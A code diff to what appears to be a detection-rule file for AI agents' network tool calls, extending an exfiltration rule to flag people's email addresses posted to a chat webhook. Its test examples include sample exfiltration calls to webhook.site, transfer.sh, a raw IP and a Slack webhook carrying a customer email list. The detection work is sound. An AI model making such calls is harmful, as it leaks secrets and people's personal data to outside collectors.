@@ -15,7 +15,7 @@ import { CI_PIPELINE, writes, writtenOrRun } from './persistence.js';
 import { shippedOutside, shippedOutsideBy } from '../knowledge/telemetry-config.js';
 import { mailRoutedByCommand, mailRoutedInFile, outsideMailDestination, type MailCopy } from '../knowledge/mail-routing.js';
 import { isJsonObject } from '../toolcall.js';
-import { PERSONAL_MAILBOX } from '../knowledge/payloads.js';
+import { emailAddresses, PERSONAL_MAILBOX } from '../knowledge/payloads.js';
 import { windowsTechniques } from '../knowledge/windows.js';
 import { addsMcpServer } from '../knowledge/programs.js';
 import { tableCopiedOutOfProject } from '../knowledge/data-platform.js';
@@ -1199,7 +1199,7 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EXFIL-010', name: 'network-call-sends-to-drop-service', score: 70, tactic: 'exfiltration', technique: 'T1567',
-    message: 'Network tool call sends a body or query data to a paste site, webhook catcher, file drop or raw IP',
+    message: "Network tool call sends a body or query data to a paste site, webhook catcher, file drop or raw IP, or people's addresses to a chat webhook",
     why: 'An agent posting data to an anonymous collector, or putting it in the query of a fetch there, is leaking whatever it sent.',
     check: (i) => {
       if (i.call.kind !== 'network') return undefined;
@@ -1207,7 +1207,10 @@ export const RULES: readonly Rule[] = [
       const q = i.call.url.indexOf('?');
       if (!(NETWORK_SEND.has(i.call.method.toUpperCase()) || i.call.body || (q > 0 && q < i.call.url.length - 1))) return undefined;
       const d = i.facts.destinations.find((x) => DROP_KINDS.has(x.kind));
-      return d ? `${i.call.method} ${d.url ?? d.host}` : undefined;
+      if (d) return `${i.call.method} ${d.url ?? d.host}`;
+      // (a chat channel's webhook is where a team's notices go; a list of people's addresses posted there is a leak)
+      const chat = i.facts.destinations.find((x) => x.kind === 'chat-webhook');
+      return chat && emailAddresses(i.call.body ?? '', 3) >= 3 ? `${i.call.method} ${chat.url ?? chat.host}: people's addresses in the body` : undefined;
     },
     // a bin the user made and gives by its address ("I made a bin at https://webhook.site/0c6f…, send it a test
     // event"): its id cannot be guessed, so only the user can have named it; secrets in the body are other rules'
@@ -1225,8 +1228,8 @@ export const RULES: readonly Rule[] = [
       },
     },
     examples: {
-      fire: [{ Network: { method: 'POST', url: 'https://webhook.site/6f0c1b9e', body: '{"k":"v"}' } }, { Network: { method: 'PUT', url: 'https://transfer.sh/x.txt', body: 'data' } }, { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }, { Network: { method: 'GET', url: 'https://webhook.site/abc?k=c2VjcmV0' } }],
-      quiet: [{ Network: { method: 'GET', url: 'https://pastebin.com/raw/abc' } }, { Network: { method: 'GET', url: 'https://webhook.site/' } }, { Network: { method: 'GET', url: 'https://api.github.com/search/code?q=proxilion' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api', body: '{"a":1}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/x/y/issues', body: '{"title":"bug"}' } }],
+      fire: [{ Network: { method: 'POST', url: 'https://hooks.slack.com/services/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', body: '{"text": "customers export (1/14)", "attachments": [{"text": "id,email\\n1812,j.ramsey@gmail.com\\n1813,pbhatt@yahoo.co.uk\\n1814,k.osei@outlook.com"}]}' } }, { Network: { method: 'POST', url: 'https://webhook.site/6f0c1b9e', body: '{"k":"v"}' } }, { Network: { method: 'PUT', url: 'https://transfer.sh/x.txt', body: 'data' } }, { Network: { method: 'POST', url: 'http://45.33.12.7/c', body: 'hostname=dev1' } }, { Network: { method: 'GET', url: 'https://webhook.site/abc?k=c2VjcmV0' } }],
+      quiet: [{ Network: { method: 'POST', url: 'https://hooks.slack.com/services/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', body: '{"text": "Deploy of api v2.3.1 finished by dana@acme.io"}' } }, { Network: { method: 'GET', url: 'https://pastebin.com/raw/abc' } }, { Network: { method: 'GET', url: 'https://webhook.site/' } }, { Network: { method: 'GET', url: 'https://api.github.com/search/code?q=proxilion' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api', body: '{"a":1}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/x/y/issues', body: '{"title":"bug"}' } }],
     },
   },
   {
